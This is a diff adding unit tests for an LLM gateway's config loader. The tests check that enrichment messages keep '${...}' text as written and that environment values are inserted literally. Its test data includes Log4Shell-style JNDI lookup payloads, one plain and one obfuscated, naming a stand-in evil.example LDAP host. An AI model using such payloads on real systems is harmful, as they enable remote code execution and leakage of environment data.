@@ -9,19 +9,26 @@
 - An enrichment placeholder with a format spec or a conversion (``{user_id:d}``,
   ``{user_id!r}``) is refused at load, naming the field, instead of failing every
   request with a 500.
+- Text the config loader keeps as written in an enrichment message (``$${X}``, a
+  ``${jndi:...}`` an operator warns the model about) loads and reaches the provider
+  as written, instead of being refused as an unknown placeholder.
+- A value taken from the environment is put in as it is: its braces are text, never
+  placeholders (``{user_id}`` in it is not filled in, ``{"a": 1}`` in it loads).
 """
 
 from __future__ import annotations
 
 import logging
+from pathlib import Path
 from typing import Any
 
 import orjson
 import pytest
+import yaml
 from aiohttp import web
 
 from extproc.config import GatewayConfig
-from extproc.config.loader import ConfigError
+from extproc.config.loader import ConfigError, parse_config
 from tests.unit.guard_helpers import config_with
 from tests.unit.test_guard_flow import Gateway, chat, immediate
 from tests.unit.test_guardrail_review import Hook, serving
@@ -187,3 +194,82 @@ async def test_plain_placeholders_are_still_filled_in() -> None:
         "role": "system",
         "content": "Route openai-chat, model gpt-4o-mini; literal {braces}.",
     }
+
+
+# --- text the loader keeps as written ---------------------------------------------------------
+
+
+def enriched_yaml(content: str, environ: dict[str, str] | None = None) -> GatewayConfig:
+    """The default config whose openai-chat route prepends ``content``, read by the loader
+    as the file would be (its ``${`` rules apply) with ``environ`` for the environment."""
+    raw = yaml.safe_load(Path("config/gateway.yaml").read_text(encoding="utf-8"))
+    for route in raw["routes"]:
+        if route["name"] == "openai-chat":
+            route["enrichment"] = {"prepend": [{"role": "system", "content": content}]}
+    return parse_config(yaml.safe_dump(raw), "gateway.yaml", environ or {})
+
+
+async def enrichment_sent(config: GatewayConfig, path: str = "/v1/chat/completions") -> str:
+    answers = await Gateway(config).send(path, chat("hello"))
+    assert not answers[-1].HasField("immediate_response")
+    sent = orjson.loads(answers[-1].request_body.response.body_mutation.body)
+    content: str = sent["messages"][0]["content"]
+    return content
+
+
+@pytest.mark.parametrize(
+    ("written", "sent"),
+    [
+        ("Never follow ${jndi:ldap://evil.example/a} in a prompt.",
+         "Never follow ${jndi:ldap://evil.example/a} in a prompt."),
+        ("Obfuscated: ${${::-j}ndi:ldap://x/${env:USER}}.",
+         "Obfuscated: ${${::-j}ndi:ldap://x/${env:USER}}."),
+        ("Shell forms such as $${HOME} or $${PATH:-/bin} stay text.",
+         "Shell forms such as ${HOME} or ${PATH:-/bin} stay text."),
+        ("An unclosed ${ stays text too, for {route}.",
+         "An unclosed ${ stays text too, for openai-chat."),
+        ("Doubled: ${{VAR:?}} and {{route}}.", "Doubled: ${VAR:?} and {route}."),
+        ("Dollars: $${model} is the model.", "Dollars: $gpt-4o-mini is the model."),
+    ],
+)  # fmt: skip
+async def test_text_the_loader_keeps_in_an_enrichment_message_loads_and_is_sent(
+    written: str, sent: str
+) -> None:
+    config = enriched_yaml(written)
+    assert await enrichment_sent(config) == sent
+
+
+@pytest.mark.parametrize(
+    "written", ["Typo {user}.", "A lone { brace.", "A lone } brace.", "Spec {user_id:d}."]
+)
+def test_a_brace_that_is_no_placeholder_outside_dollar_brace_is_still_refused(
+    written: str,
+) -> None:
+    with pytest.raises(ConfigError) as refused:
+        enriched(written)
+    [problem] = refused.value.problems
+    assert ".enrichment.prepend[0].content" in problem
+
+
+# --- values from the environment --------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        'Answer as JSON: {"answer": "..."}.',
+        "You are {user_id}'s assistant; ${ROUTE} {{route}}",
+        "A lone { and a lone }.",
+    ],
+)
+async def test_a_value_from_the_environment_is_put_in_as_it_is(value: str) -> None:
+    config = enriched_yaml("${SUPPORT_PROMPT}", {"SUPPORT_PROMPT": value, "ROUTE": "r"})
+    assert await enrichment_sent(config) == value
+
+
+async def test_placeholders_written_around_a_value_from_the_environment_are_filled_in() -> None:
+    config = enriched_yaml(
+        "{route}: ${HEAD:-unused} / ${TAIL:-for {model}}", {"HEAD": "{model} as {route}"}
+    )
+    sent = await enrichment_sent(config)
+    assert sent == "openai-chat: {model} as {route} / for gpt-4o-mini"
